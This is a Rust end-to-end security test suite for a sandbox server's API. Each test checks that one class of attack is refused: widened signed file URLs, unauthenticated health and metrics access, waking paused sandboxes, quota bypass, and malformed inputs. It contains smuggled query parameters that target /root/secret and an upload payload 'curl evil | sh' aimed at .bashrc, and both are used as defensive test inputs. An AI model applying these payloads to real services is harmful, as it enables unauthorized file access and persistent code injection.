//! The API edge under attack, end to end: a real `ringfence serve` (the binary) on a loopback
//! port, driven over raw HTTP. Each test tries one class of attack from the adversarial
//! review (issue 12) with its variants and checks it fails, and that the server keeps
//! serving the legitimate request next to it:
//!
//! - signed `/files` URLs widened by extra, re-encoded or duplicated query parameters;
//! - `/health` used to reach a sandbox without its token (other ports, other methods);
//! - `/metrics` read by one tenant to list another's sandboxes;
//! - a paused `autoResume` sandbox woken, kept from idling or probed without its token;
//! - one key creating without bound (sandboxes, snapshots, create rate);
//! - absurd time values, malformed env names, and host paths in 500 messages.
//!
//! Needs root and the binaries (`cargo build --workspace`): `RINGFENCE_BIN`, or
//! `target/<profile>/ringfence` beside this test. Without either, each test prints SKIPPED.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::time::{Duration, Instant};

use base64::Engine as _;
use ringfence_test_support::percent_encode as enc;
use serde_json::{Value, json};
use support::serve::{Resp, Sandbox, b64_text, frames};

/// A running `ringfence serve` with its own data directory and two tenants' keys.
struct Server {
    serve: support::serve::Server,
    other_key: String,
}

impl std::ops::Deref for Server {
    type Target = support::serve::Server;
    fn deref(&self) -> &Self::Target {
        &self.serve
    }
}

impl Server {
    fn start(test: &str, args: &[&str]) -> Option<Server> {
        if !support::root_or_skip(test) {
            return None;
        }
        let bin = support::serve::binary_or_skip(test, "cargo build --workspace")?;
        let mut serve = support::serve::Server::new(bin);
        // Some of these requests are cut off by the server.
        serve.http.lenient = true;
        serve.key = serve.new_key("tenant-a", &[]);
        let other_key = serve.new_key("tenant-b", &[]);
        serve.spawn(args);
        Some(Server { serve, other_key })
    }

    fn create_with(&self, body: Value) -> Sandbox {
        let r = self.api("POST", "/v2/sandboxes", body);
        assert_eq!(r.status, 201, "create: {}", r.text());
        Sandbox::from(&r.json())
    }

    fn create(&self) -> Sandbox {
        self.create_with(json!({"templateID": "base"}))
    }

    fn state(&self, sb: &Sandbox) -> Option<String> {
        let r = self.api("GET", &format!("/sandboxes/{}", sb.id), Value::Null);
        (r.status == 200).then(|| r.json()["state"].as_str().unwrap_or("").to_string())
    }

    /// Runs `bash -c script` through envd's `process.Process/Start` as `user`; returns
    /// stdout, or the raw answer when the start was refused.
    fn run_as(&self, sb: &Sandbox, user: &str, script: &str) -> Result<String, Resp> {
        let msg = json!({"process": {"cmd": "/bin/bash", "args": ["-c", script]}, "stdin": false});
        self.start_process(sb, user, &msg, &[])
    }

    fn run(&self, sb: &Sandbox, script: &str) -> String {
        self.run_as(sb, "user", script).unwrap_or_else(|r| panic!("run: {}", r.text()))
    }

    fn start_process(
        &self,
        sb: &Sandbox,
        user: &str,
        msg: &Value,
        extra: &[(&str, &str)],
    ) -> Result<String, Resp> {
        let auth = format!(
            "Basic {}",
            base64::engine::general_purpose::STANDARD.encode(format!("{user}:"))
        );
        let mut headers = vec![("Authorization", auth.as_str())];
        headers.extend_from_slice(extra);
        let r = self.process_start(&sb.id, &sb.token, msg, &headers);
        if r.status != 200 {
            return Err(r);
        }
        let mut stdout = String::new();
        for (flags, v) in frames(&r.body) {
            if flags & 2 != 0 && v.get("error").is_some() {
                return Err(r);
            }
            if let Some(d) = v["event"]["data"]["stdout"].as_str() {
                stdout.push_str(&b64_text(d));
            }
        }
        Ok(stdout)
    }

    /// Reads a file through `/files` with the sandbox's token, as `user`.
    fn read(&self, sb: &Sandbox, user: &str, path: &str) -> Resp {
        self.request(
            "GET",
            &format!("/files?path={path}&username={user}"),
            &[
                ("E2b-Sandbox-Id", &sb.id),
                ("E2b-Sandbox-Port", "49983"),
                ("X-Access-Token", &sb.token),
            ],
            b"",
        )
    }
}

/// E2B's `download_url()`/`upload_url()` signature (`e2b/sandbox/signature.py`).
fn sign(path: &str, op: &str, user: &str, token: &str, exp: i64) -> String {
    use sha2::Digest;
    let digest = sha2::Sha256::digest(format!("{path}:{op}:{user}:{token}:{exp}").as_bytes());
    format!("v1_{}", base64::engine::general_purpose::STANDARD_NO_PAD.encode(digest))
}

/// A signed `/files` query for `path` as `user`.
fn signed_query(path: &str, op: &str, user: &str, token: &str) -> String {
    let exp = ringfence_server::manager::now_ms() / 1000 + 600;
    let sig = sign(path, op, user, token, exp);
    format!("path={}&username={user}&signature={}&signature_expiration={exp}", enc(path), enc(&sig))
}

macro_rules! server_or_skip {
    ($args:expr) => {
        match Server::start(module_path!(), $args) {
            Some(s) => s,
            None => return,
        }
    };
}

// ---------------------------------------------------------------------------------------------
// Finding 1: signed file URLs.

#[test]
fn signed_urls_cannot_be_widened_to_other_paths_or_users() {
    let srv = server_or_skip!(&[]);
    let sb = srv.create();
    srv.run_as(&sb, "root", "echo topsecret > /root/secret; chmod 600 /root/secret").unwrap();
    srv.run(&sb, "echo hello > /home/user/a.txt; echo spaced > '/home/user/a b.txt'");
    let bashrc = srv.read(&sb, "user", "/home/user/.bashrc").body;

    // The legitimate URL works with no header at all: the signature names the sandbox.
    let base = format!("/files?{}", signed_query("/home/user/a.txt", "read", "user", &sb.token));
    let r = srv.request("GET", &base, &[], b"");
    assert_eq!((r.status, r.text().as_str()), (200, "hello\n"));

    // The review's attack and its variants: a second path or user, in any spelling.
    for extra in [
        "&pa%74h=%2Froot%2Fsecret&user%6eame=root",
        "&pa%74h=%2Froot%2Fsecret",
        "&user%6eame=root",
        "&%70%61%74%68=%2Froot%2Fsecret",
        "&path=%2Froot%2Fsecret",
        "&path=/root/secret",
        "&username=root",
        "&path",
        "&signature=v1_AAAA",
        "&Path=/root/secret",
        "&PATH=/root/secret",
        "&USERNAME=root",
        "&=root",
        "&download=1",
        "&path=%zz",
        "&path=/root/secret%00",
    ] {
        let r = srv.request("GET", &format!("{base}{extra}"), &[], b"");
        assert_eq!(r.status, 400, "{extra}: {} {}", r.status, r.text());
        assert!(!r.text().contains("topsecret"), "{extra}");
    }
    // Prefixed rather than appended: still a duplicate.
    let r = srv.request(
        "GET",
        &base.replacen("/files?", "/files?pa%74h=%2Froot%2Fsecret&", 1),
        &[],
        b"",
    );
    assert_eq!(r.status, 400, "{}", r.text());

    // Separators smuggled into the signed value change what was signed: refused as such.
    for (from, to) in [
        ("a.txt&", "a.txt;username=root&"),
        ("a.txt&", "a.txt%26username%3Droot&"),
        ("a.txt&", "a.txt%3Busername%3Droot&"),
        ("username=user", "username=root"),
        ("username=user", "username=us%65r%00"),
    ] {
        let url = base.replacen(from, to, 1);
        let r = srv.request("GET", &url, &[], b"");
        assert!(matches!(r.status, 400 | 401), "{url}: {} {}", r.status, r.text());
        assert!(!r.text().contains("topsecret"));
    }
    // `+` and `%20` are the same space, as the signature was computed over the decoded path.
    let spaced = signed_query("/home/user/a b.txt", "read", "user", &sb.token);
    for q in [spaced.clone(), spaced.replace("%20", "+")] {
        let r = srv.request("GET", &format!("/files?{q}"), &[], b"");
        assert_eq!((r.status, r.text().as_str()), (200, "spaced\n"), "{q}");
    }
    // A signature only opens envd's /files: not another port of the sandbox.
    for port in ["8080", "49999"] {
        let r = srv.request(
            "GET",
            &base,
            &[("E2b-Sandbox-Id", &sb.id), ("E2b-Sandbox-Port", port)],
            b"",
        );
        assert_eq!(r.status, 401, "port {port}: {}", r.text());
    }

    // Uploads: the same attack would write anywhere (a shell's startup file).
    let up = format!("/files?{}", signed_query("/home/user/up.txt", "write", "user", &sb.token));
    let octet = [("Content-Type", "application/octet-stream")];
    for extra in [
        "&pa%74h=%2Fhome%2Fuser%2F.bashrc",
        "&pa%74h=%2Froot%2F.bashrc&user%6eame=root",
        "&path=/home/user/.bashrc",
        "&Path=/home/user/.bashrc",
    ] {
        let r = srv.request("POST", &format!("{up}{extra}"), &octet, b"curl evil | sh\n");
        assert_eq!(r.status, 400, "{extra}: {}", r.text());
    }
    assert_eq!(srv.read(&sb, "user", "/home/user/.bashrc").body, bashrc, ".bashrc untouched");
    let root_rc = srv.read(&sb, "root", "/root/.bashrc");
    assert!(!root_rc.text().contains("curl evil"), "/root/.bashrc untouched");
    // The signed upload itself still works, once.
    let r = srv.request("POST", &up, &octet, b"uploaded");
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(srv.read(&sb, "user", "/home/user/up.txt").text(), "uploaded");
    // A read signature is no write signature.
    let r = srv.request("POST", &base, &octet, b"x");
    assert_eq!(r.status, 401, "{}", r.text());
}

// ---------------------------------------------------------------------------------------------
// Finding 4: /health.

#[test]
fn health_needs_no_token_only_as_envds_bare_get() {
    let srv = server_or_skip!(&[]);
    let sb = srv.create();
    srv.run(&sb, "cd /tmp && setsid python3 -m http.server 8080 >/dev/null 2>&1 < /dev/null &");
    let with_token = |port: &str| {
        srv.request(
            "GET",
            "/health",
            &[
                ("E2b-Sandbox-Id", &sb.id),
                ("E2b-Sandbox-Port", port),
                ("X-Access-Token", &sb.token),
            ],
            b"",
        )
    };
    let deadline = Instant::now() + Duration::from_secs(15);
    while with_token("8080").status == 502 {
        assert!(Instant::now() < deadline, "the service inside never came up");
        std::thread::sleep(Duration::from_millis(200));
    }
    // The sandbox's own service answers its owner (python's 404 for /health)...
    assert_eq!(with_token("8080").status, 404);
    // ...and nobody else, on any spelling of the route to it.
    let id_port = |port: &'static str| {
        vec![("E2b-Sandbox-Id", sb.id.clone()), ("E2b-Sandbox-Port", port.to_string())]
    };
    for (method, path, headers) in [
        ("GET", "/health", id_port("8080")),
        ("GET", "/health/", id_port("8080")),
        ("GET", "/x/health", id_port("8080")),
        ("POST", "/health", id_port("8080")),
        ("GET", "/health", id_port("49999")),
        ("GET", "/health", vec![("Host", format!("8080-{}.localhost", sb.id))]),
    ] {
        let h: Vec<(&str, &str)> = headers.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let r = srv.request(method, path, &h, b"");
        assert_eq!(r.status, 401, "{method} {path} {headers:?}: {}", r.text());
    }
    // envd's own health check is public, as in E2B: a bare GET only.
    let envd = [("E2b-Sandbox-Id", sb.id.as_str()), ("E2b-Sandbox-Port", "49983")];
    assert_eq!(srv.request("GET", "/health", &envd, b"").status, 204);
    assert_eq!(
        srv.request("GET", "/health", &[("E2b-Sandbox-Id", sb.id.as_str())], b"").status,
        204
    );
    let mut upgrade = envd.to_vec();
    upgrade.extend([
        ("Connection", "Upgrade"),
        ("Upgrade", "websocket"),
        ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
    ]);
    let mut chunked = envd.to_vec();
    chunked.extend([("Transfer-Encoding", "chunked"), ("Content-Length", "")]);
    for (method, path, headers, body) in [
        ("HEAD", "/health", envd.to_vec(), &b""[..]),
        ("POST", "/health", envd.to_vec(), &b""[..]),
        ("PUT", "/health", envd.to_vec(), &b""[..]),
        ("GET", "/health?x=1", envd.to_vec(), &b""[..]),
        ("GET", "/health?", envd.to_vec(), &b""[..]),
        ("GET", "/health", envd.to_vec(), &b"abc"[..]),
        ("GET", "/health", upgrade.clone(), &b""[..]),
    ] {
        let r = srv.request(method, path, &headers, body);
        assert_eq!(r.status, 401, "{method} {path} {headers:?}: {}", r.text());
    }
    // A port that is no port is refused, not read as envd's.
    let r = srv.request(
        "GET",
        "/health",
        &[("E2b-Sandbox-Id", &sb.id), ("E2b-Sandbox-Port", "http")],
        b"",
    );
    assert_eq!(r.status, 400, "{}", r.text());
    // With the token, all of it is the owner's to use.
    let mut owned = envd.to_vec();
    owned.push(("X-Access-Token", &sb.token));
    assert_eq!(srv.request("HEAD", "/health", &owned, b"").status, 204);
    // The server kept serving throughout.
    assert_eq!(srv.run(&sb, "echo ok"), "ok\n");
}

// ---------------------------------------------------------------------------------------------
// Finding 8: paused sandboxes and unauthenticated traffic.

#[test]
fn paused_sandbox_is_not_woken_kept_alive_or_probed_without_its_token() {
    let srv = server_or_skip!(&[]);
    let sb = srv.create_with(json!({"templateID": "base", "autoResume": true, "timeout": 300}));
    let public = srv.create_with(json!({
        "templateID": "base", "autoResume": true, "network": {"allowPublicTraffic": true}
    }));
    for s in [&sb, &public] {
        let r = srv.api("POST", &format!("/sandboxes/{}/pause", s.id), Value::Null);
        assert_eq!(r.status, 204, "{}", r.text());
        assert_eq!(srv.state(s).as_deref(), Some("paused"));
    }
    let unknown = "i0123456789abcdefghij".to_string();
    let probe = |id: &str, path: &str, extra: &[(&str, &str)]| {
        let mut h = vec![("E2b-Sandbox-Id", id)];
        h.extend_from_slice(extra);
        srv.request("POST", path, &h, b"{}")
    };
    for path in ["/process.Process/List", "/files?path=/etc/passwd", "/health"] {
        for extra in
            [&[][..], &[("X-Access-Token", "wrong")][..], &[("E2b-Sandbox-Port", "49999")][..]]
        {
            let known = probe(&sb.id, path, extra);
            let none = probe(&unknown, path, extra);
            assert_eq!(known.status, 401, "{path} {extra:?}: {}", known.text());
            // An unknown id and a wrong token read the same.
            assert_eq!((none.status, none.text()), (known.status, known.text()), "{path}");
        }
    }
    // By Host too, and on the public sandbox's envd port (public covers its own ports only).
    let host = format!("49983-{}.localhost", sb.id);
    assert_eq!(srv.request("POST", "/process.Process/List", &[("Host", &host)], b"{}").status, 401);
    assert_eq!(probe(&public.id, "/process.Process/List", &[]).status, 401);
    // The unauthenticated health check reads a paused sandbox as not running: no resume.
    let r = srv.request("GET", "/health", &[("E2b-Sandbox-Id", &sb.id)], b"");
    assert_eq!(r.status, 502);
    let r = srv.request("GET", "/health", &[("E2b-Sandbox-Id", &unknown)], b"");
    assert_eq!(r.status, 502);
    assert_eq!(srv.state(&sb).as_deref(), Some("paused"), "woken without a token");
    assert_eq!(srv.state(&public).as_deref(), Some("paused"), "woken without a token");
    // The owner's traffic resumes it (E2B autoResume).
    assert_eq!(srv.run(&sb, "echo back"), "back\n");
    assert_eq!(srv.state(&sb).as_deref(), Some("running"));

    // Idle timeout: traffic without the token does not count as use.
    let idle = srv.create_with(json!({"templateID": "base", "idleTimeout": 2, "onIdle": "kill"}));
    let started = Instant::now();
    while started.elapsed() < Duration::from_secs(12) && srv.state(&idle).is_some() {
        let r = srv.request("GET", "/health?x", &[("E2b-Sandbox-Id", &idle.id)], b"");
        assert!(matches!(r.status, 401 | 502), "{}", r.text());
        probe(&idle.id, "/process.Process/List", &[]);
        std::thread::sleep(Duration::from_millis(200));
    }
    assert_eq!(srv.state(&idle), None, "kept alive by unauthenticated requests");
}

// ---------------------------------------------------------------------------------------------
// Finding 5: /metrics.

#[test]
fn metrics_show_a_tenant_no_other_tenants_sandboxes() {
    let srv = server_or_skip!(&[]);
    let operator = srv.new_key("scraper", &["--operator"]);
    let sb = srv.create();
    assert_eq!(srv.run(&sb, "echo hi"), "hi\n");
    std::thread::sleep(Duration::from_millis(1500));
    let scrape = |key: &str| {
        let r = srv.request("GET", "/metrics", &[("Authorization", &format!("Bearer {key}"))], b"");
        assert_eq!(r.status, 200, "{}", r.text());
        r.text()
    };
    let full = scrape(&operator);
    assert!(full.contains(&format!("sandbox=\"{}\"", sb.id)), "operator sees every series");
    for key in [&srv.other_key, &srv.key] {
        let text = scrape(key);
        assert!(!text.contains(&sb.id), "a tenant key lists a sandbox: {text}");
        assert!(!text.contains("sandbox=\""), "{text}");
        // What tenants may read: the shared series (conformance reads the pool-hit count).
        assert!(text.contains("ringfence_sandbox_startup_seconds_count"), "{text}");
        assert!(text.contains("ringfence_sandboxes{state=\"running\"} 1"), "{text}");
    }
    assert_eq!(srv.request("GET", "/metrics", &[], b"").status, 401);
    // Each tenant's own sandboxes through E2B's routes, and only those.
    let other = |path: &str| srv.api_as(&srv.other_key, "GET", path, Value::Null);
    assert_eq!(other(&format!("/sandboxes/{}/metrics", sb.id)).status, 404);
    let batch = other(&format!("/sandboxes/metrics?sandbox_ids={}", sb.id)).json();
    assert_eq!(batch["sandboxes"], json!({}), "{batch}");
    let mine = srv.api("GET", &format!("/sandboxes/metrics?sandbox_ids={}", sb.id), Value::Null);
    assert_eq!(mine.json()["sandboxes"].as_object().map(|m| m.len()), Some(1));
}

#[test]
fn metrics_can_be_operator_only() {
    let srv = server_or_skip!(&["--metrics-auth", "operator"]);
    let operator = srv.new_key("scraper", &["--operator"]);
    let get = |key: &str| srv.request("GET", "/metrics", &[("X-API-Key", key)], b"");
    let r = get(&srv.key);
    assert_eq!(r.status, 403, "{}", r.text());
    assert!(r.text().contains("operator key"), "{}", r.text());
    assert_eq!(get("e2b_nope").status, 401);
    assert_eq!(get(&operator).status, 200);
}

// ---------------------------------------------------------------------------------------------
// Finding 11: quotas.

#[test]
fn sandbox_quota_counts_running_paused_forks_and_parallel_creates() {
    let srv = server_or_skip!(&["--max-sandboxes-per-key", "3", "--create-rate-per-key", "0"]);
    // A burst of parallel creates: exactly the quota gets through.
    let results: Vec<Resp> = std::thread::scope(|s| {
        let hs: Vec<_> = (0..8)
            .map(|_| s.spawn(|| srv.api("POST", "/v2/sandboxes", json!({"templateID": "base"}))))
            .collect();
        hs.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let made: Vec<Sandbox> = results
        .iter()
        .filter(|r| r.status == 201)
        .map(|r| Sandbox {
            id: r.json()["sandboxID"].as_str().unwrap().into(),
            token: r.json()["envdAccessToken"].as_str().unwrap().into(),
        })
        .collect();
    assert_eq!(made.len(), 3, "{:?}", results.iter().map(|r| r.status).collect::<Vec<_>>());
    for r in results.iter().filter(|r| r.status != 201) {
        assert_eq!(r.status, 429, "{}", r.text());
        let v = r.json();
        assert_eq!(v["code"], 429);
        assert!(v["message"].as_str().unwrap().contains("at most 3 sandboxes"), "{v}");
    }
    // Another key is not affected.
    let r = srv.api_as(&srv.other_key, "POST", "/v2/sandboxes", json!({"templateID": "base"}));
    assert_eq!(r.status, 201, "{}", r.text());
    // A paused sandbox (files only) still counts.
    let r = srv.api("POST", &format!("/sandboxes/{}/pause", made[0].id), json!({"memory": false}));
    assert_eq!(r.status, 204, "{}", r.text());
    assert_eq!(srv.api("POST", "/v2/sandboxes", json!({"templateID": "base"})).status, 429);
    // Forks: all children fit, or none is made.
    let kill = |sb: &Sandbox| {
        assert_eq!(srv.api("DELETE", &format!("/sandboxes/{}", sb.id), Value::Null).status, 204);
    };
    kill(&made[2]);
    let r = srv.api("POST", &format!("/sandboxes/{}/fork", made[1].id), json!({"count": 2}));
    assert_eq!(r.status, 429, "{}", r.text());
    assert_eq!(srv.api("GET", "/v2/sandboxes", Value::Null).json().as_array().unwrap().len(), 2);
    let r = srv.api("POST", &format!("/sandboxes/{}/fork", made[1].id), json!({"count": 1}));
    assert_eq!(r.status, 201, "{}", r.text());
    // Resume is refused while the key is above its quota (lowered since the pause).
    let store =
        ringfence_server::store::Store::open(&srv.data.path().join("ringfence.db")).unwrap();
    let key = store.verify_key(&srv.key).unwrap().unwrap();
    let lowered =
        ringfence_server::store::KeyLimits { max_sandboxes: Some(2), ..Default::default() };
    store.set_key_limits(&key.id, &lowered).unwrap();
    let r = srv.api("POST", &format!("/sandboxes/{}/resume", made[0].id), Value::Null);
    assert_eq!(r.status, 429, "{}", r.text());
    assert_eq!(srv.state(&made[0]).as_deref(), Some("paused"));
    kill(&made[1]);
    let r = srv.api("POST", &format!("/sandboxes/{}/resume", made[0].id), Value::Null);
    assert_eq!(r.status, 201, "{}", r.text());
    assert_eq!(srv.run(&made[0], "echo resumed"), "resumed\n");
}

#[test]
fn snapshot_quota_and_create_rate_are_enforced() {
    let srv = server_or_skip!(&["--max-snapshots-per-key", "1"]);
    let limited = srv.new_key(
        "bursty",
        &["--create-rate", "0.2", "--create-burst", "2", "--max-sandboxes", "0"],
    );
    let create =
        |key: &str| srv.api_as(key, "POST", "/v2/sandboxes", json!({"templateID": "base"}));
    let first = create(&limited);
    assert_eq!(first.status, 201, "{}", first.text());
    assert_eq!(create(&limited).status, 201);
    let r = create(&limited);
    assert_eq!(r.status, 429, "{}", r.text());
    assert!(r.json()["message"].as_str().unwrap().contains("create rate limit"), "{}", r.text());
    // A fork larger than the burst can never pass.
    let id = first.json()["sandboxID"].as_str().unwrap().to_string();
    let r = srv.api_as(&limited, "POST", &format!("/sandboxes/{id}/fork"), json!({"count": 3}));
    assert_eq!(r.status, 429, "{}", r.text());
    // The server's default rate leaves the other keys alone.
    assert_eq!(create(&srv.key).status, 201);

    let sb = srv.create();
    let snap = |name: &str| {
        srv.api("POST", &format!("/sandboxes/{}/snapshots", sb.id), json!({"name": name}))
    };
    assert_eq!(snap("one").status, 201);
    let r = snap("two");
    assert_eq!(r.status, 429, "{}", r.text());
    assert!(r.text().contains("at most 1 snapshots"), "{}", r.text());
    assert_eq!(srv.api("DELETE", "/templates/one", Value::Null).status, 204);
    assert_eq!(snap("three").status, 201);
}

// ---------------------------------------------------------------------------------------------
// Finding 12: validation and internal errors.

#[test]
fn absurd_times_and_malformed_env_are_refused_naming_the_field() {
    let srv = server_or_skip!(&[]);
    let huge = 1i64 << 61;
    for (body, field) in [
        (json!({"idleTimeout": huge}), "idleTimeout"),
        (json!({"idleTimeout": -1}), "idleTimeout"),
        (json!({"idleTimeout": i64::MAX}), "idleTimeout"),
        (json!({"timeout": huge}), "timeout"),
        (json!({"timeout": -1}), "timeout"),
        (json!({"envVars": {"A=B": "x"}}), "envVars"),
        (json!({"envVars": {"": "x"}}), "envVars"),
        (json!({"envVars": {"A\u{0}B": "x"}}), "envVars"),
        (json!({"envVars": {"A": "x\u{0}y"}}), "envVars"),
    ] {
        let r = srv.api("POST", "/v2/sandboxes", body.clone());
        assert_eq!(r.status, 400, "{body}: {}", r.text());
        assert!(r.json()["message"].as_str().unwrap().contains(field), "{body}: {}", r.text());
    }
    let sb = srv.create();
    for (path, body, field) in [
        ("timeout", json!({"timeout": huge}), "timeout"),
        ("timeout", json!({"timeout": -5}), "timeout"),
        ("connect", json!({"timeout": huge}), "timeout"),
        ("connect", json!({"timeout": -5}), "timeout"),
        ("resume", json!({"timeout": -5}), "timeout"),
        ("fork", json!({"timeout": huge}), "timeout"),
    ] {
        let r = srv.api("POST", &format!("/sandboxes/{}/{path}", sb.id), body.clone());
        assert_eq!(r.status, 400, "{path} {body}: {}", r.text());
        assert!(r.text().contains(field), "{}", r.text());
    }
    for (query, field) in [
        ("start=-1", "start"),
        ("start=9223372036854775807", "start"),
        ("end=9223372036854775", "end"),
        ("end=-9223372036854775808", "end"),
    ] {
        let r = srv.api("GET", &format!("/sandboxes/{}/metrics?{query}", sb.id), Value::Null);
        assert_eq!(r.status, 400, "{query}: {}", r.text());
        assert!(r.text().contains(field), "{}", r.text());
    }
    for query in ["since=1e300", "until=-5", "since=NaN", "since=0001-01-01T00:00:00Z"] {
        let r = srv.api("GET", &format!("/audit?{query}"), Value::Null);
        assert_eq!(r.status, 400, "{query}: {}", r.text());
    }
    // envd: process env and stream headers.
    for envs in
        [json!({"A=B": "1"}), json!({"": "1"}), json!({"A\u{0}": "1"}), json!({"A": "\u{0}"})]
    {
        let msg = json!({"process": {"cmd": "/bin/true", "envs": envs}});
        let r = srv.start_process(&sb, "user", &msg, &[]).unwrap_err();
        assert!(
            r.text().contains("invalid_argument") && r.text().contains("process.envs"),
            "{}",
            r.text()
        );
    }
    for (header, value) in [
        ("Connect-Timeout-Ms", "-1"),
        ("Connect-Timeout-Ms", "18446744073709551615"),
        ("Keepalive-Ping-Interval", "99999999999"),
    ] {
        let msg = json!({"process": {"cmd": "/bin/true"}});
        let r = srv.start_process(&sb, "user", &msg, &[(header, value)]).unwrap_err();
        assert!(r.text().contains("invalid_argument") && r.text().contains(header), "{}", r.text());
    }
    // None of it got in: commands still run, and the idle timeout did not wrap.
    assert_eq!(srv.run(&sb, "echo ok"), "ok\n");
    let idle = srv.create_with(json!({"idleTimeout": 86_400, "onIdle": "kill"}));
    std::thread::sleep(Duration::from_secs(4));
    assert_eq!(srv.state(&idle).as_deref(), Some("running"));
}

#[test]
fn internal_errors_name_no_host_path_and_the_server_keeps_serving() {
    let srv = server_or_skip!(&[]);
    let sb = srv.create();
    // Snapshots are saved under DATA_DIR/layers: a file there makes the save fail inside.
    let layers = srv.data.path().join("layers");
    let _ = std::fs::remove_dir_all(&layers);
    std::fs::write(&layers, b"not a directory").unwrap();
    let r = srv.api("POST", &format!("/sandboxes/{}/snapshots", sb.id), json!({}));
    assert_eq!(r.status, 500, "{}", r.text());
    let msg = r.json()["message"].as_str().unwrap().to_string();
    let data = srv.data.path().to_string_lossy().into_owned();
    assert!(!msg.contains(&data) && !msg.contains("/tmp") && !msg.contains("layers"), "{msg}");
    assert!(msg.starts_with("internal error (id "), "{msg}");
    // The operator finds the detail in the log under the id given to the client.
    let id = msg.trim_start_matches("internal error (id ").split(')').next().unwrap();
    assert!(srv.log().lines().any(|l| l.contains(id) && l.contains(&data)), "{}", srv.log());
    std::fs::remove_file(&layers).unwrap();
    assert_eq!(srv.run(&sb, "echo still"), "still\n");
    let r = srv.api("POST", &format!("/sandboxes/{}/snapshots", sb.id), json!({}));
    assert_eq!(r.status, 201, "{}", r.text());
}

/// `ringfence keys revoke`: a running server refuses the key from its next request on (keys
/// are checked against the database per request), its sandbox keeps running for the operator,
/// another key is untouched, `keys list` shows ids and names but never a key, an unknown id
/// is refused naming it, and the revocation is in the audit trail.
#[test]
fn a_revoked_key_is_refused_by_the_running_server() {
    let srv = server_or_skip!(&[]);
    let sb = srv.create();
    assert_eq!(srv.api("GET", "/sandboxes", Value::Null).status, 200);
    let keys = |args: &[&str]| {
        std::process::Command::new(&srv.bin)
            .arg("keys")
            .args(args)
            .arg("--data-dir")
            .arg(srv.data.path())
            .output()
            .unwrap()
    };
    let list = keys(&["list"]);
    assert!(list.status.success(), "{list:?}");
    let listed = String::from_utf8_lossy(&list.stdout).to_string();
    assert!(!listed.contains(&srv.key) && !listed.contains(&srv.other_key), "{listed}");
    let id = listed
        .lines()
        .find(|l| l.split_whitespace().nth(1) == Some("tenant-a"))
        .and_then(|l| l.split_whitespace().next())
        .unwrap_or_else(|| panic!("tenant-a not listed: {listed}"))
        .to_string();

    let revoked = keys(&["revoke", &id]);
    assert!(revoked.status.success(), "{revoked:?}");
    assert_eq!(srv.api("GET", "/sandboxes", Value::Null).status, 401);
    let create = srv.api("POST", "/v2/sandboxes", json!({"templateID": "base"}));
    assert_eq!(create.status, 401, "{}", create.text());
    assert_eq!(srv.api_as(&srv.other_key, "GET", "/sandboxes", Value::Null).status, 200);
    // Its sandbox is still there (killing it is the operator's call): its agent answers.
    assert_eq!(srv.run(&sb, "echo still"), "still\n");

    let again = keys(&["revoke", &id]);
    assert!(!again.status.success());
    assert!(String::from_utf8_lossy(&again.stderr).contains(&id), "{again:?}");
    let after = String::from_utf8_lossy(&keys(&["list"]).stdout).to_string();
    assert!(!after.contains("tenant-a") && after.contains("tenant-b"), "{after}");
    let audit = std::process::Command::new(&srv.bin)
        .args(["audit", "--action", "key.revoke", "--data-dir"])
        .arg(srv.data.path())
        .output()
        .unwrap();
    let audit = String::from_utf8_lossy(&audit.stdout).to_string();
    assert!(audit.contains("key.revoke") && audit.contains(&id), "{audit}");
}
